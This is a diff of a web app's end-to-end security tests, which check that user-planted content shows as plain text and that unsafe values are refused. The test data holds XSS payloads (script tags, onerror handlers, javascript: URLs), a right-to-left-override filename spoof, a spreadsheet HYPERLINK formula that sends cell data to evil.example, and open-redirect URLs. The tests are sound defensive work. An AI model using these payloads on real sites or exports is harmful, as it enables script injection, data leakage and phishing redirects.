@@ -18,6 +18,9 @@ const mark = randomBytes(4).toString('hex')
 /** Markup, addresses that are scripts, and a turn of what follows. Told apart by what it is of. */
 const hostile = (what: string): string =>
   `${what}${mark} <script>hit=1</script><img src=x onerror=hit=1> javascript:hit=1 data:text/html,<script>hit=1</script> \u202Egnp.exe\u2067${END}`
+/** The same where a text that turns what follows is refused, short enough for a name. */
+const visible = (what: string): string =>
+  `${what}${mark} <script>hit=1</script><img src=x onerror=hit=1> javascript:hit=1${END}`
 const NAME = `<img src=x onerror=${mark}>`
 const VIDEO = randomBytes(8).toString('base64url').slice(0, 11)
 const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`
@@ -45,7 +48,7 @@ async function plantPerson(): Promise<Member> {
 }
 
 /** Everything that stands around the reader: a video, its review, a talk, notifications, a report, a question. */
-async function plant(reader: string, { id, client }: Member): Promise<{ talk: string }> {
+async function plant(reader: string, { id, client }: Member): Promise<{ talk: string; event: string }> {
   await done(
     service.from('videos').insert({
       youtube_id: VIDEO,
@@ -85,8 +88,17 @@ async function plant(reader: string, { id, client }: Member): Promise<{ talk: st
     email: `"><script>@${mark}.example.com`,
     kind: 'usage',
   }
+  const event = {
+    event: randomUUID(),
+    title: visible('event'),
+    description: visible('about'),
+    starts_at: new Date(Date.now() + 86_400_000).toISOString(),
+    ends_at: new Date(Date.now() + 90_000_000).toISOString(),
+    capacity: 5,
+  }
+  await done(client.rpc('save_event', { ...event, is_online: false, place: visible('place'), url: '' }))
   await done(anonymousClient(stack).rpc('send_contact', { ...question, message: hostile('question') }))
-  return { talk }
+  return { talk, event: event.event }
 }
 
 /** Waits until what was planted is on the screen, and looks what it does there. */
@@ -130,7 +142,7 @@ test('what others planted is text on every screen, in every notification and in 
   const { page, reader } = await openReader()
   const { userId } = await makeAcquaintance(stack, reader)
   const other = await plantPerson()
-  const { talk } = await plant(userId, other)
+  const { talk, event } = await plant(userId, other)
 
   await look(page, `/video/${VIDEO}`, `title${mark} <script>`, `review${mark} <script>`)
   await page.locator('main').getByRole('button', { name: 'お気に入り' }).first().click()
@@ -143,6 +155,16 @@ test('what others planted is text on every screen, in every notification and in 
   await page.getByRole('button', { name: /^通知/ }).first().click()
   await expectInert(page, 'the bell')
   await look(page, `/profile/${other.id}`, NAME, `bio${mark} <script>`, `review${mark} <script>`)
+
+  await look(
+    page,
+    `/events/${event}`,
+    `event${mark} <script>`,
+    `about${mark} <script>`,
+    `place${mark} <script>`,
+    NAME,
+  )
+  await look(page, '/events', `event${mark} <script>`, `place${mark} <script>`)
 
   await page.goto(`${stack.web}/profile/settings`)
   const download = async (name: string): Promise<Buffer> => {
@@ -182,8 +204,30 @@ test('what cannot be shown without harm is not kept at all', async () => {
   expect(await refused({ avatar_url: 'javascript:hit=1' })).toBe('23514')
   expect(await refused({ bio: 'half a character \uD83D' })).toBe('22P02')
   expect(await refused({ bio: 'nothing \u0000' })).toBe('22P05')
-  const link = { user_id: id, type: 'system', title: 'x', link: 'javascript:hit=1' }
-  expect((await service.from('notifications').insert(link)).error?.code).toBe('23514')
+  for (const link of ['javascript:hit=1', '//evil.example', '/.//evil.example', '/\\evil.example']) {
+    const notification = { user_id: id, type: 'system', title: 'x', link }
+    expect((await service.from('notifications').insert(notification)).error?.code, link).toBe('23514')
+  }
+  const event = {
+    event: randomUUID(),
+    description: '',
+    starts_at: new Date(Date.now() + 86_400_000).toISOString(),
+  }
+  const ends_at = new Date(Date.now() + 90_000_000).toISOString()
+  const held = async (fields: { title: string; url: string }): Promise<unknown> =>
+    (
+      await client.rpc('save_event', {
+        ...event,
+        ...fields,
+        ends_at,
+        is_online: true,
+        place: '',
+        capacity: 5,
+      })
+    ).error?.hint
+  expect(await held({ title: '集まり\u202Eexe', url: '' })).toBe('title_invalid')
+  expect(await held({ title: '集まり', url: 'javascript:hit=1' })).toBe('url_invalid')
+  expect(await held({ title: '集まり', url: 'https://known.example@evil.example' })).toBe('url_invalid')
 })
 
 /** The files of a ZIP as it is exported: uncompressed texts. */
